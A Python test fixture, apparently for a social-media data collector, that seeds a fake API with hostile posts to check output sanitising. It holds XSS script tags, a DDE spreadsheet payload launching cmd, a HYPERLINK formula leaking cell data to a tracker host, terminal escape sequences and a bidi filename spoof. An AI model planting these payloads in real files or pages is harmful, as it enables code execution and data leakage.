"""One archive of hostile content, collected from the fake API, that drives every output (issue 12).

Usernames, full names, captions, comments, locations, music and server messages hold HTML and
script tags, Markdown breakers (``|``, line breaks, a leading ``#``, an image link to a
tracker), spreadsheet formulas (``=HYPERLINK``, ``+cmd``, ``@SUM``, ``-2+3``), control
characters with ANSI and OSC escapes, bidi controls, ``$...$`` and NUL. :func:`build` collects
them into ``archive.jsonl`` through :func:`igresearch.collect` (the ``hostile`` fixture of
conftest.py builds it once per run); :data:`PEOPLE` lists the identifiers a pseudonymised output
must never show.
"""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

from igresearch import collect
from igresearch.testing import FakeAPI

TAGS = "<script>alert(1)</script><iframe src=x>"
MARKDOWN = "a|b\n# forged heading\n![x](http://tracker.example/p.png)"
FORMULAS = ('=HYPERLINK("http://tracker.example/?q="&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)")
CONTROLS = "\x1b]0;pwned\x07\x1b[2J\x1b[31m\x9b2J\r\x7f"
BIDI = "\u202etxt.exe\u2066"
MATH = "$\\frac{a}{b}$"
NUL = "\x00"
#: Every hostile piece, each of which some field of some post holds.
PIECES = (TAGS, MARKDOWN, *FORMULAS, "-2+3", CONTROLS, BIDI, MATH, NUL)

#: The posts that gave media: shortcode -> what its fields hold.
POSTS: dict[str, dict[str, Any]] = {
    "C0ffee00101": {
        "username": "hostile_tags" + TAGS,
        "full_name": "Hostile Name" + MARKDOWN,
        "caption": FORMULAS[0] + " @hostile_friend " + CONTROLS + MATH,
        "location": MATH + TAGS,
        "commenter": FORMULAS[1] + "hostile_commenter",
        "comment": FORMULAS[0] + NUL,
        "artist": None,  # original audio: the owner's username
        "audio_id": "880000000000101",
    },
    "C0ffee00102": {
        "username": "hostile_md|x\n# h",
        "full_name": '=HYPERLINK("http://tracker.example")' + BIDI,
        "caption": "-2+3 " + MARKDOWN + NUL,
        "location": FORMULAS[2] + CONTROLS,
        "commenter": "hostile_ansi" + CONTROLS,
        "comment": TAGS + BIDI,
        "artist": "Licensed Artist " + MATH,  # licensed music: kept
        "audio_id": "880000000000102",
    },
    "C0ffee00103": {
        "username": "hostile_math" + MATH + BIDI,
        "full_name": "Hostile Three" + NUL + CONTROLS,
        "caption": TAGS + "\n#not a heading",
        "location": "-2+3",
        "commenter": "@SUM(1+1)hostile_at",
        "comment": "-2+3" + MARKDOWN,
        "artist": None,
        "audio_id": "880000000000103",
    },
}
#: A failure whose server message names an account and quotes the post's URL.
FAILED = "C0ffee00104"
FAILED_MESSAGE = (
    "owner hostile_private_person is private: https://www.instagram.com/reel/C0ffee00104/ "
    + TAGS
    + CONTROLS
    + "\n# forged"
)
#: An unavailable post: an Apify error item whose description names an account.
UNAVAILABLE = "C0ffee00105"
UNAVAILABLE_MESSAGE = "Post by hostile_hidden_person is private " + TAGS + MARKDOWN
#: Account names that appear only in server messages.
NAMED_BY_SERVERS = ("hostile_private_person", "hostile_hidden_person")


def envelope(shortcode: str, post: dict[str, Any], number: int) -> dict[str, Any]:
    """The fake's answer for `shortcode`, its people and text replaced by `post`'s."""
    document = copy.deepcopy(FakeAPI.media_for(shortcode))
    node = document["data"]["data"]["xdt_shortcode_media"]
    owner_id = f"77000000{number:02d}"
    node["owner"].update(id=owner_id, username=post["username"], full_name=post["full_name"])
    node["edge_media_to_caption"]["edges"][0]["node"]["text"] = post["caption"]
    node["location"] = {"id": f"55{number}", "name": post["location"]}
    comment = node["edge_media_to_parent_comment"]["edges"][0]["node"]
    comment["text"] = post["comment"]
    comment["owner"] = {"id": f"66000000{number:02d}", "username": post["commenter"]}
    node["coauthor_producers"] = [
        {"id": f"44000000{number:02d}", "username": f"hostile_coauthor{number}" + TAGS}
    ]
    music = node["clips_music_attribution_info"]
    music["audio_id"] = post["audio_id"]
    if post["artist"] is None:
        music.update(artist_name=post["username"], uses_original_audio=True)
    else:
        music.update(artist_name=post["artist"], uses_original_audio=False, song_name=MATH)
    return document


def build(folder: Path) -> Path:
    """Collect the hostile posts into ``folder/archive.jsonl`` from a fake API; return it."""
    folder.mkdir(parents=True, exist_ok=True)
    archive = folder / "archive.jsonl"
    with FakeAPI() as api:
        for number, (shortcode, post) in enumerate(POSTS.items(), start=1):
            api.set_payload(shortcode, envelope(shortcode, post, number))
        api.set_payload(FAILED, {"code": "0003", "msg": FAILED_MESSAGE, "data": None})
        item = {
            "url": f"https://www.instagram.com/reel/{UNAVAILABLE}/",
            "error": "not_found",
            "errorDescription": UNAVAILABLE_MESSAGE,
        }
        api.set_payload(UNAVAILABLE, {"code": "0000", "msg": "success", "data": [item]})
        api.set_for("C0ffee00106", "server_error")
        urls = [*POSTS, FAILED, UNAVAILABLE, "C0ffee00106"]
        key = "sk-hostile-fixture-0123456789"
        collect(
            urls, archive=archive, api_key=key, base_url=api.base_url, progress=False,
            rate=1000.0, max_retries=0, concurrency=1,
        )  # fmt: skip
    return archive
